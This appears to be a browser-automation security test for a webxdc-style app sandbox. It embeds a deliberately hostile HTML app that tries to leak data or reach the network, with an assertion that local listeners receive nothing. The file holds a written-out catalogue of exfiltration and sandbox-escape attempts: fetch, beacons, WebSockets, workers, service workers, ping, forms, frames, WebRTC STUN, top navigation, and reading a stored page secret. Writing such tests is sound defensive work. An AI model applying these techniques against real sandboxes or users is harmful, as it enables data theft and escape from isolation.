// A hostile app tries whatever a document can to reach somebody: nothing of it arrives anywhere.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { createServer as listenTcp } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { equal, holds, until } from '../lib.mjs';
import { stored } from '../zip.mjs';

export default async function (world) {
  const { alice } = world.people;
  const reached = [];
  const http = createServer((request, answer) => {
    reached.push(`http ${request.method} ${request.url}`);
    answer.setHeader('access-control-allow-origin', '*');
    answer.end('reached');
  });
  const tcp = listenTcp((socket) => {
    reached.push('tcp');
    socket.destroy();
  });
  const udp = createSocket('udp4', () => reached.push('udp'));
  const [web, raw, stun] = await Promise.all([
    new Promise((done) => http.listen(0, '127.0.0.1', () => done(http.address().port))),
    new Promise((done) => tcp.listen(0, '127.0.0.1', () => done(tcp.address().port))),
    new Promise((done) => (udp.on('message', () => reached.push('stun')), udp.bind(0, '127.0.0.1', () => done(udp.address().port)))),
  ]);
  // That these hear what reaches them.
  await fetch(`http://127.0.0.1:${web}/self`);
  equal(reached, ['http GET /self'], 'the ears are open');
  reached.length = 0;

  const place = (name) => join(tmpdir(), `dak-${name}-${process.pid}.xdc`);
  const begin = async (name, files) => {
    writeFileSync(place(name), stored(files));
    return (await alice.one('send', 'me', '-f', place(name))).id;
  };
  const told = async (id) => (await alice.rows('app', id)).map(({ payload }) => payload);

  // A frame that goes elsewhere goes nowhere.
  const leaves = await begin('leaving', { 'index.html': leaving(web) });
  const page = await alice.page();
  const origin = new URL(page.url()).origin;
  await page.evaluate((id) => (location.hash = `#/app/${id}`), leaves);
  await until('its page kept it', () => world.wrong.some((said) => said.includes('Framing')));
  equal(reached, [], 'and it came nowhere');

  // By itself, in a tab of its own, an app is nothing.
  const secret = () => localStorage.getItem('dak.page');
  const asked = { headers: { 'dak-page': await page.evaluate(secret) } };
  const { host } = await page.evaluate(async ([id, asked]) => (await fetch(`/v1/apps/${id}`, asked)).json(), [leaves, asked]);
  const alone = await page.context().newPage();
  const answer = await alone.goto(origin.replace(new URL(origin).hostname, host) + '/index.html');
  equal(answer.status(), 403, 'an app is no document by itself');
  await alone.close();
  equal(world.browser.contexts().flatMap((context) => context.pages()).length, 1, 'no window was opened');

  // All else it tries, and says so by the one way that it has; but for WebRTC within a frame, for which the browser ends it.
  const files = { 'index.html': hostile(web, raw, stun), 'sw.js': 'onfetch = (event) => event.respondWith(new Response("<script>fetch(1)</script>"));', 'other.html': '<p>other' };
  const tries = await begin('hostile', files);
  let gone = false;
  const devtools = await world.browser.newBrowserCDPSession();
  devtools.on('Target.targetCrashed', () => (gone = true));
  await devtools.send('Target.setDiscoverTargets', { discover: true });
  await page.evaluate((id) => (location.hash = `#/app/${id}`), tries);
  await until('it has tried almost everything', async () => (await told(tries)).some((payload) => payload.said));
  await until('it has tried everything', async () => gone || (await told(tries)).some((payload) => payload.done));
  for (const [what, came] of Object.entries((await told(tries)).at(-1).said)) holds(came === 'no', `${what}: ${came}`);
  equal(reached, [], 'nothing came anywhere');
  holds(page.url().startsWith(origin), 'the page is where it was');
  // Its own page says all that it was kept from.
  world.wrong.length = 0;
  http.close();
  tcp.close();
  udp.close();
}

/** It goes elsewhere with what it has. */
function leaving(web) {
  return `<!doctype html><script>location.href = 'http://127.0.0.1:${web}/away?secret';</script>`;
}

function hostile(web, raw, stun) {
  return `<!doctype html><meta charset="utf-8">
<link rel="dns-prefetch" href="//127.0.0.1:${web}"><link rel="preconnect" href="http://127.0.0.1:${raw}"><link rel="prefetch" href="http://127.0.0.1:${web}/prefetch">
<link rel="stylesheet" href="http://127.0.0.1:${web}/style.css">
<script src="webxdc.js"></script>
<img src="http://127.0.0.1:${web}/picture"><a id="ping" href="other.html" target="inner" ping="http://127.0.0.1:${web}/ping">x</a><iframe name="inner"></iframe>
<script>
const said = {};
const out = 'http://127.0.0.1:${web}';
const tried = async (what, doing) => {
  try { said[what] = (await doing()) ? 'it did' : 'no'; } catch { said[what] = 'no'; }
};
const rtc = async (window) => {
  const peer = new window.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });
  let found = false;
  peer.onicecandidate = ({ candidate }) => (found ||= !!candidate);
  peer.createDataChannel('x');
  await peer.setLocalDescription();
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return found;
};
const inner = (doing) => new Promise((resolve, reject) => {
  const frame = document.createElement('iframe');
  doing(frame);
  document.body.append(frame);
  resolve(frame.contentWindow);
});
(async () => {
  await tried('fetch', () => fetch(out + '/fetch'));
  await tried('no-cors', () => fetch(out + '/no-cors', { mode: 'no-cors' }));
  await tried('beacon', () => (navigator.sendBeacon(out + '/beacon', 'x'), false));
  await tried('xhr', () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', out + '/xhr'); x.onload = yes; x.onerror = no; x.send(); }));
  await tried('websocket', () => new Promise((yes, no) => { const s = new WebSocket('ws://127.0.0.1:${raw}/'); s.onopen = yes; s.onerror = no; }));
  await tried('events', () => new Promise((yes, no) => { const s = new EventSource(out + '/events'); s.onopen = yes; s.onerror = no; }));
  await tried('import', () => import(out + '/module.js'));
  await tried('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + out + '/worker").then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => yes(data); w.onerror = no; }));
  await tried('service worker', () => navigator.serviceWorker.register('sw.js'));
  await tried('picture', () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = out + '/img'; }));
  await tried('form', () => { const f = document.createElement('form'); f.action = out + '/form'; f.target = 'inner'; document.body.append(f); f.submit(); return false; });
  await tried('ping', () => { document.getElementById('ping').click(); return false; });
  await tried('popup', () => window.open(out + '/popup'));
  await tried('top', () => { top.location.href = out + '/top'; return false; });
  await tried('page', () => parent.document.title);
  await tried('api', () => fetch('/v1/me').then((answer) => answer.ok));
  await tried('page api', () => fetch(document.referrer || 'http://127.0.0.1:${web}/x'));
  await tried('inner fetch', async () => (await inner(() => {})).fetch(out + '/inner'));
  await tried('srcdoc', async () => { await inner((frame) => (frame.srcdoc = '<img src="' + out + '/srcdoc">')); return false; });
  await tried('data frame', async () => { await inner((frame) => (frame.src = 'data:text/html,<img src="' + out + '/data">')); return false; });
  await tried('frame', async () => { await inner((frame) => (frame.src = out + '/frame')); return false; });
  await tried('storage of the page', () => localStorage.getItem('dak.page'));
  // What the reader of these has to be told first: a connection that is refused may end the document.
  webxdc.sendUpdate({ payload: { said: { ...said } } }, '');
  await tried('webrtc', () => rtc(window));
  await tried('webrtc within', async () => rtc(await inner(() => {})));
  webxdc.sendUpdate({ payload: { done: true, said } }, '');
})();
</script>`;
}
